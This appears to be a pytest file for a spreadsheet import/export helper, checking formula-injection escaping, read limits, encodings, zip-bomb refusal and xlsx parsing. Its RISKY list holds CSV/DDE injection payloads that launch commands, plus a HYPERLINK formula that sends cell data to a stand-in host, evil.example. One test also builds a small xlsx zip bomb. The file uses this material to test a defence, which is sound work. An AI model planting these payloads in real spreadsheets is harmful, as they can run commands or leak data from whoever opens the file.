"""The spreadsheet helper every import and export goes through: formulas never get out, values come
back exactly, and reading a file is bounded whatever the file."""

from __future__ import annotations

import csv
import os
import time
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from workbench.services.sheets import (
    Cancel,
    ImportCancelled,
    Progress,
    ReadLimits,
    SheetError,
    Stage,
    csv_cell,
    from_csv_cell,
    is_formula_like,
    read_table,
    write_table,
)

# Text a spreadsheet would run (OWASP's list: = + - @ tab CR), and text that merely starts with a quote.
RISKY = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'引号开头",
    "''两个引号",
    "'",
]
PLAIN = ["小鹿", "a=b", "1-2", "#N/A", "", "我@你"]
LIMITS = ReadLimits(max_bytes=1024 * 1024, max_rows=1000, max_line_chars=10_000)


def rows_of(path: Path, limits: ReadLimits = LIMITS) -> list[tuple[int, list[str]]]:
    return list(read_table(path, limits))


@pytest.mark.parametrize("value", RISKY + PLAIN)
def test_a_csv_cell_is_quoted_only_when_needed_and_comes_back_exactly(value: str) -> None:
    cell = csv_cell(value)
    assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_csv_cell(cell) == value
    if value in PLAIN:
        assert cell == value  # nothing added where nothing is needed


def test_numbers_and_dates_stay_what_they_are() -> None:
    assert csv_cell(-5) == -5 and csv_cell(1.5) == 1.5 and csv_cell(None) == ""
    assert csv_cell(datetime(2026, 6, 1, 8, 30)) == "2026-06-01 08:30:00"
    assert from_csv_cell("'hand-typed apostrophe") == "'hand-typed apostrophe"  # not ours to undo


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_written_then_read_gives_back_the_same_text(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"t{suffix}"
    rows = [[v, "x"] for v in RISKY + PLAIN if v.strip() == v and v]  # cells are read stripped
    assert write_table(path, ["值", "x"], rows) == len(rows)
    back = [cells for _line, cells in rows_of(path)]
    assert back[1:] == rows
    assert not (tmp_path / f"t{suffix}.part").exists()


def test_csv_cells_that_look_like_formulas_start_with_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_table(path, ["值"], [[v] for v in RISKY])
    raw = [row[0] for row in csv.reader(path.open(encoding="utf-8-sig", newline=""))][1:]
    assert all(cell.startswith("'") for cell in raw), raw


def test_xlsx_text_is_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_table(path, ["值", "数"], [[v, 7] for v in RISKY] + [["#N/A", 1.5], ["带\x01控制符", -3]])
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and 't="e"' not in xml
    sheet = load_workbook(path).worksheets[0]  # the full reader: it shows data types and styles
    for (text, number), expected in zip(sheet.iter_rows(min_row=2, values_only=False), RISKY, strict=False):
        # exact, but for XML's own rule that a carriage return reads back as a line feed
        assert text.data_type == "s" and text.value == expected.replace("\r", "\n")
        # a formula-like text stays text when the cell is edited in Excel
        assert text.quotePrefix == is_formula_like(expected)
        assert number.data_type == "n" and number.value == 7  # numbers stay numbers
    last = list(sheet.iter_rows(min_row=len(RISKY) + 2, values_only=True))
    assert last == [("#N/A", 1.5), ("带\ufffd控制符", -3)]  # XML cannot hold \x01


def test_the_size_is_checked_before_anything_is_read(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("wb") as fh:
        fh.truncate(LIMITS.max_bytes + 1)  # sparse: no time spent writing it
    with pytest.raises(SheetError) as info:
        next(read_table(path, LIMITS))
    assert info.value.code == "too_big" and info.value.params == {"limit_mb": 1}


def test_a_file_without_end_is_stopped_as_it_is_read(tmp_path: Path) -> None:
    """A device (or a file that grows) has no size to check first: the bytes are counted instead."""
    endless = tmp_path / "zero.csv"
    endless.symlink_to("/dev/zero")
    started = time.monotonic()
    with pytest.raises(SheetError) as info:
        rows_of(endless)
    assert info.value.code == "too_big"
    assert time.monotonic() - started < 5


def test_rows_and_lines_are_counted_as_they_come(tmp_path: Path) -> None:
    many = tmp_path / "many.csv"
    many.write_text("昵称\n" + "\n".join(f"买家{i}" for i in range(1001)) + "\n", encoding="utf-8")
    with pytest.raises(SheetError) as info:
        rows_of(many)
    assert (info.value.code, info.value.line, info.value.params) == ("too_many_rows", 1002, {"limit": 1000})
    blank_lines = tmp_path / "blank.csv"
    blank_lines.write_text("昵称\n" + "\n" * 5000 + "买家\n", encoding="utf-8")  # blank lines do not count
    assert rows_of(blank_lines)[-1] == (5002, ["买家"])
    long_line = tmp_path / "long.csv"
    long_line.write_text("昵称\n" + "x" * 20_000 + "\n", encoding="utf-8")
    with pytest.raises(SheetError) as info:
        rows_of(long_line)
    assert (info.value.code, info.value.line) == ("line_too_long", 2)


def test_encodings(tmp_path: Path) -> None:
    gbk = tmp_path / "gbk.csv"
    gbk.write_bytes("昵称,城市\n小鹿,杭州\n".encode("gb18030"))
    assert rows_of(gbk) == [(1, ["昵称", "城市"]), (2, ["小鹿", "杭州"])]
    neither = tmp_path / "neither.csv"
    neither.write_bytes(b"\xff\xfe\x80\x81,\x80\n")
    with pytest.raises(SheetError) as info:
        rows_of(neither)
    assert info.value.code == "encoding"


def test_a_record_spanning_lines_has_the_number_of_its_first_line(tmp_path: Path) -> None:
    path = tmp_path / "multi.csv"
    path.write_text('标准问题,答案\n包邮吗,"亲，\n包邮的"\n发货,"48小时"\n', encoding="utf-8")
    assert rows_of(path) == [(1, ["标准问题", "答案"]), (2, ["包邮吗", "亲，\n包邮的"]), (4, ["发货", "48小时"])]
    assert [cells for _line, cells in read_table(path, LIMITS, single_column=True)][1] == ['包邮吗,"亲，']


def test_an_xlsx_bomb_is_refused_before_openpyxl_unpacks_it(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    good = tmp_path / "good.xlsx"
    write_table(good, ["昵称"], [["小鹿"]])
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("xl/sharedStrings.xml", b" " * (5 * LIMITS.max_bytes))  # a few KB zipped
    assert path.stat().st_size < LIMITS.max_bytes
    with pytest.raises(SheetError) as info:
        rows_of(path)
    assert info.value.code == "too_big"


def test_a_cell_openpyxl_cannot_read_is_refused_with_its_row(tmp_path: Path) -> None:
    good = tmp_path / "good.xlsx"
    write_table(good, ["昵称", "积分"], [["小鹿", 1], ["大鹿", 2]])
    path = tmp_path / "damaged.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<v>2</v>", b"<v>two</v>")  # a number cell that is no number
            dst.writestr(item, data)
    with pytest.raises(SheetError) as info:
        rows_of(path)
    assert (info.value.code, info.value.line) == ("unreadable", 3)


def test_progress_is_reported_and_cancel_stops_the_reading(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("昵称\n" + "".join(f"买家{i}\n" for i in range(5000)), encoding="utf-8")
    seen: list[Progress] = []
    cancel = Cancel()

    def progress(p: Progress) -> None:
        seen.append(p)
        if len(seen) == 2:
            cancel.set()

    with pytest.raises(ImportCancelled):
        list(read_table(path, ReadLimits(max_bytes=1 << 20, max_rows=10_000), progress, cancel))
    assert seen[0].stage is Stage.READING and 0 < seen[0].done < seen[0].total == path.stat().st_size
    assert seen[0].percent is not None and 0 < seen[0].percent < 100


def test_an_unreadable_file_keeps_the_system_reason(tmp_path: Path) -> None:
    with pytest.raises(SheetError) as info:
        rows_of(tmp_path / "gone.csv")
    assert info.value.code == "unreadable" and isinstance(info.value.__cause__, FileNotFoundError)
    with pytest.raises(SheetError) as info:
        rows_of(tmp_path / "notes.json")
    assert info.value.code == "format"
    if os.geteuid() != 0:  # root reads anything
        locked = tmp_path / "locked.csv"
        locked.write_text("昵称\n", encoding="utf-8")
        locked.chmod(0)
        with pytest.raises(SheetError) as info:
            rows_of(locked)
        assert isinstance(info.value.__cause__, PermissionError)


def test_xlsx_as_excel_saves_it_shared_strings_dates_and_gaps(tmp_path: Path) -> None:
    """Excel keeps text in a shared-strings part (read here from disk, not memory), marks dates by
    style, and leaves out empty rows; openpyxl writes none of that, so the file is put together here."""
    template = tmp_path / "template.xlsx"
    write_table(template, ["昵称"], [[datetime(2024, 6, 18, 14, 30)]])  # a date style to point at
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    strings = (
        f"<sst {ns}><si><t>昵称</t></si><si><t>注册时间</t></si><si><t>小鹿</t></si>"
        "<si><r><t>富</t></r><r><rPr><b/></rPr><t>文本</t></r></si><si><t>a_x005F_x000D_b</t></si></sst>"
    )
    sheet = (
        f'<worksheet {ns}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
        '<row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2" s="1"><v>45461.5</v></c></row>'
        '<row r="5" ht="20" customHeight="1"><c r="A5" t="s"><v>3</v></c><c r="B5" t="b"><v>1</v></c>'
        '<c r="C5" t="e"><v>#N/A</v></c><c r="ZZZ5" t="s"><v>4</v></c></row>'
        '<row r="6"><c r="A6" t="s"><v>4</v></c><c r="B6"><v>1.5</v></c></row></sheetData></worksheet>'
    )
    path = tmp_path / "excel.xlsx"
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, "w") as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
                )
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdS" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/sharedStrings"/></Relationships>',
                )
            elif item.filename == "xl/worksheets/sheet1.xml":
                data = sheet.encode()
            dst.writestr(item, data)
        dst.writestr("xl/sharedStrings.xml", strings.encode())
    assert rows_of(path) == [
        (1, ["昵称", "注册时间"]),
        (2, ["小鹿", "2024-06-18 12:00:00"]),
        (3, []),
        (4, []),
        (5, ["富文本", "True", "#N/A"]),  # a cell beyond the 256th column is left out
        (6, ["a_x000D_b", "1.5"]),
    ]
